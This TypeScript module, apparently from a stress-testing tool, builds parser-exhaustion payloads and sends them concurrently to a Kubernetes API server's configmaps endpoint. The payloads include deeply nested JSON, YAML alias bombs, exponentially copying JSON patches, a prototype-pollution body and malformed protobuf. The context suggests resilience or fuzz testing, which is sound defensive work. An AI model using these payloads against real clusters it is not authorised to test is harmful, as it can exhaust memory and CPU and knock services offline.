/** Small bodies that mean much work or much memory: depth, aliases, copies, numbers, names. */

import { ask } from "../ask.ts";
import { type Attack, crowd, pick, randomBytes, type Siege } from "../attack.ts";

const maps = "/api/v1/namespaces/default/configmaps";
const mega = 1_000_000;

export const jsonBombs: readonly string[] = [
  "[".repeat(3 * mega),
  `{"metadata":${'{"a":'.repeat(500_000)}1${"}".repeat(500_000)}}`,
  `{"metadata":{"name":"x"},"data":${"[".repeat(mega)}${"]".repeat(mega)}}`,
  `{"metadata":{"name":"x"},"data":{"n":${"9".repeat(mega)}}}`,
  `{"metadata":{"name":"x"},"n":1e${"9".repeat(100)}}`,
  `{${'"a":1,'.repeat(300_000)}"a":1}`,
  `{"metadata":{"name":"x","labels":{${Array.from({ length: 100_000 }, (_, at) => `"l${at}":"v"`).join()}}}}`,
  `{"metadata":{"name":"x"},"data":{"a":"\\ud800${"\\u0000".repeat(100_000)}"}}`,
  '{"__proto__":{"admin":true},"constructor":{"prototype":{}},"metadata":{"name":"x"}}',
  " ".repeat(3 * mega),
];

const aliases = (levels: number): string =>
  Array.from({ length: levels }, (_, at) =>
    at === 0 ? "a0: &a0 [x,x,x,x,x,x,x,x,x]" : `a${at}: &a${at} [${`*a${at - 1},`.repeat(9)}]`,
  ).join("\n");

export const yamlBombs: readonly string[] = [
  aliases(12),
  "[".repeat(mega),
  "- ".repeat(100_000),
  `${"a:\n ".repeat(1_000)}b`,
  Array.from({ length: 2_000 }, (_, depth) => `${" ".repeat(depth)}a:`).join("\n"),
  `a: ${"!!str ".repeat(100_000)}b`,
  `{${"? ".repeat(100_000)}}`,
  `a: |\n${" x\n".repeat(500_000)}`,
  `"${"\\x41".repeat(500_000)}`,
  "&a [*a, *a]",
];

const doubling = JSON.stringify([
  { op: "add", path: "/data", value: { a: "x".repeat(1_000) } },
  ...Array.from({ length: 64 }, (_, at) => ({ op: "copy", from: "/data", path: `/data/c${at}` })),
]);
export const patchBombs: readonly { readonly type: string; readonly body: string }[] = [
  { type: "application/json-patch+json", body: doubling },
  {
    type: "application/json-patch+json",
    body: JSON.stringify(
      Array.from({ length: 20_000 }, () => ({ op: "test", path: "/kind", value: "ConfigMap" })),
    ),
  },
  {
    type: "application/json-patch+json",
    body: `[{"op":"add","path":"${"/a".repeat(500_000)}","value":1}]`,
  },
  {
    type: "application/merge-patch+json",
    body: `${'{"a":'.repeat(200_000)}1${"}".repeat(200_000)}`,
  },
  {
    type: "application/strategic-merge-patch+json",
    body: `${'{"$patch":"replace","a":'.repeat(50_000)}1${"}".repeat(50_000)}`,
  },
  { type: "application/apply-patch+yaml", body: aliases(12) },
  {
    type: "application/apply-patch+yaml",
    body: `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"kube-root-ca.crt","managedFields":[${'{"fieldsV1":{"f:a":{}}},'.repeat(10_000)}{}]}}`,
  },
];

/** A length as protobuf writes it: seven bits a byte, the lowest first. */
function varint(value: number): number[] {
  const bytes: number[] = [];
  let rest = value;
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 128);
  return [...bytes, rest];
}

/** A message in a message in a message. */
function nested(depth: number): Buffer {
  const heads: number[][] = [];
  for (let at = 0, length = 0; at < depth; at++) {
    const head = [0x0a, ...varint(length)];
    length += head.length;
    heads.push(head);
  }
  return Buffer.from(heads.reverse().flat());
}

const magic = Buffer.from("6b387300", "hex");
const deep = nested(20_000);
/** The head of a ConfigMap whose body is said to be longer than it is. */
const overlong = Buffer.from("0a0f0a0276311209436f6e6669674d61701280ffff7f", "hex");
/** Behind the head of Kubernetes anything. */
export const protobufBombs: readonly ((siege: Siege) => Buffer)[] = [
  (siege) => randomBytes(siege, 1 + Math.floor(siege.random() * 2_000)),
  () => deep,
  // A length of 2^63, one that never ends, and groups that never end.
  () => Buffer.from("0affffffffffffffffff7f", "hex"),
  () => Buffer.from(`0a${"ff".repeat(1_000)}`, "hex"),
  () => Buffer.from("0b".repeat(10_000), "hex"),
  () => Buffer.from(`0a0f0a02763112${"08".repeat(50)}`, "hex"),
  (siege) => Buffer.concat([overlong, randomBytes(siege, 5_000)]),
];

const post = (siege: Siege, type: string, body: string | Buffer) =>
  ask(siege, { method: "POST", path: maps, type, body });

export const bombs: readonly Attack[] = [
  {
    name: "JSON bombs",
    run: (siege) => crowd(siege, 4, () => post(siege, "application/json", pick(siege, jsonBombs))),
  },
  {
    name: "YAML bombs",
    run: (siege) => crowd(siege, 4, () => post(siege, "application/yaml", pick(siege, yamlBombs))),
  },
  {
    name: "broken protobuf",
    run: (siege) =>
      crowd(siege, 8, () =>
        post(
          siege,
          "application/vnd.kubernetes.protobuf",
          Buffer.concat([magic, pick(siege, protobufBombs)(siege)]),
        ),
      ),
  },
  {
    name: "patch bombs",
    run: (siege) =>
      crowd(siege, 4, () => {
        const { type, body } = pick(siege, patchBombs);
        const path = `${maps}/kube-root-ca.crt?fieldManager=siege&dryRun=All`;
        return ask(siege, { method: "PATCH", path, type, body });
      }),
  },
];
